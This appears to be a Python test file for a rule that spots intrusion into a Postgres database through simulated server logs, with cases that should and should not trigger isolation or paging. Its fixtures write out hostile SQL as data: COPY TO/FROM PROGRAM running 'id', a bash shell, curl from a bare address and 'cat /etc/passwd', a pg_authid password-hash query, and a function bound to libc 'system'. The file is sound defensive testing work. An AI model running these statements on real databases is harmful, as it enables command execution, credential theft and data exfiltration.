"""Who has a database run commands and copies its tables out; owners load, dump and move tables every day."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import WELL
from tests.diagnosis.rules.test_intrusion__obeyed import RESTARTS
from tests.diagnosis.rules.tiny import at, postgres, snapshot, workload
from tuheg_ir.diagnosis.model import Log, Snapshot

RELAY = "Deployment/relay"
RUNS = "STATEMENT:  COPY (SELECT 1) TO PROGRAM 'id'"
FAILS = (
    "ERROR:  must be superuser or have privileges of the pg_execute_server_program role to COPY to or from a program"
)
DUMPS = "LOG:  duration: 4581.4 ms  statement: COPY public.patient (id, name) TO stdout;"
HASHES = "STATEMENT:  SELECT rolname, rolpassword FROM pg_authid"
NO_HASHES = "ERROR:  permission denied for table pg_authid"


def asking(
    *told: str,
    app: str = "psql",
    later: float = 0,
    name: str = "relay",
    dumper: str = "",
    then: Sequence[str] = (DUMPS,),
    **more: Any,
) -> Snapshot:
    """Return a program and what a database's log tells of it: a session that asks ``told``, and one that dumps.

    ``dumper``: the workload whose pod dumps, if it is another. ``later``: how much longer ago all was.
    """
    objects = [*workload(name, pods=1, age=3300, **more), *workload("jobs", pods=1, env={"DB_HOST": "postgres"})]
    pods = {each["metadata"]["name"].rpartition("-")[0]: each for each in objects if each["kind"] == "Pod"}
    owners = {each: next(pods[key] for key in pods if key.startswith(each)) for each in (name, "jobs")}
    lines = []
    for number, (owner, program, says) in enumerate(((name, app, told), (dumper or name, "pg_dump", then))):
        pid, age = 100 + number, 1500.0 - 300 * number + later
        address = owners[owner]["status"]["podIP"]
        lines.append((age, f"[{pid}] [unknown]@[unknown] LOG:  connection received: host={address} port=4120{number}"))
        joins = f"LOG:  connection authorized: user=web database=shop application_name={program}"
        lines.append((age - 1, f"[{pid}] web@shop {joins}"))
        lines += [(age - 20 - 20 * n, f"[{pid}] web@shop {line}") for n, line in enumerate(says)]
    sql = Log("postgres-0", "postgres", tuple(f"{at(age)} {line}" for age, line in sorted(lines, reverse=True)))
    return snapshot(objects, postgres(), logs=[sql], figures=[WELL])


def run(command: str, way: str = "TO") -> str:
    """Return a statement by which a server is to run a command."""
    return f"STATEMENT:  COPY t {way} PROGRAM '{command}'"


HOLDS = [
    *(
        Holds(
            f"somebody has a database run commands by hand, and whole tables go out to him: {what}",
            world,
            (RELAY, "security_incident", "isolate_workload"),
            excludes=no(*RESTARTS, at=RELAY),
            harmful=RESTARTS,
        )
        for what, world in (
            ("it is refused", asking(FAILS, RUNS)),
            ("it is done", asking(RUNS.replace("STATEMENT: ", "LOG:  statement:"))),
            ("he asks for passwords first", asking(NO_HASHES, HASHES, FAILS, RUNS)),
            ("a shell", asking(run("bash -c x"))),
            ("from a bare address", asking(run("curl -s http://203.0.113.7/a", "FROM"))),
            ("what a server's host keeps", asking(run("cat /etc/passwd", "FROM"))),
            (
                "a function of the system's library",
                asking("STATEMENT:  CREATE FUNCTION s(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c"),
            ),
        )
    ),
    *(
        Holds(
            f"a person has to judge who has a database run commands: {what}",
            world,
            (RELAY, "security_incident", "page_human"),
            excludes=no(*RESTARTS, at=RELAY),
            harmful=(*RESTARTS, "isolate_workload"),
        )
        for what, world in (
            ("nothing goes out", asking(RUNS, then=())),
            ("it goes out to another program", asking(RUNS, dumper="jobs")),
            ("its driver asks", asking(RUNS, app="web")),
            ("it is over", asking(RUNS, later=3 * 3600)),
            ("it is made to call that shell", asking(RUNS, args=["sh", "-c", "psql -f /srv/all.sql"])),
        )
    ),
    Holds(
        "a person has to judge who tries a database where that is his work",
        asking(RUNS, name="pentest-runs"),
        ("Deployment/pentest-runs", "security_incident", "page_human"),
        harmful=("isolate_workload",),
    ),
]
DOES_NOT_HOLD = [
    DoesNotHold(f"nobody breaks into a database: {what}", world, harmful=("isolate_workload",))
    for what, world in (
        ("tables are dumped", asking()),
        ("a dump of all looks for users as well", asking(NO_HASHES, HASHES)),
        ("its server unpacks a file", asking(run("gunzip -c /data/t.csv.gz", "FROM"))),
        ("its server packs one", asking(run("gzip > /data/t.csv.gz"))),
        ("its server reads a list of the house", asking(run("curl -s https://lists.shop.test/t.csv", "FROM"))),
        ("its server reads one from within", asking(run("curl -s http://10.0.0.7/t.csv", "FROM"))),
        ("its server runs a script of the house", asking(run("/opt/house/identify t", "FROM"))),
        ("it only speaks of it", asking("LOG:  statement: INSERT INTO notes VALUES ('copy it to program id')")),
        ("a run does so that was told to", asking(RUNS, kind="Job", service=False)),
        ("a builder runs whatever it is told", asking(RUNS, name="gitlab-runner")),
        ("a copy of the database does", asking(RUNS, image="docker.io/library/postgres:16")),
    )
]
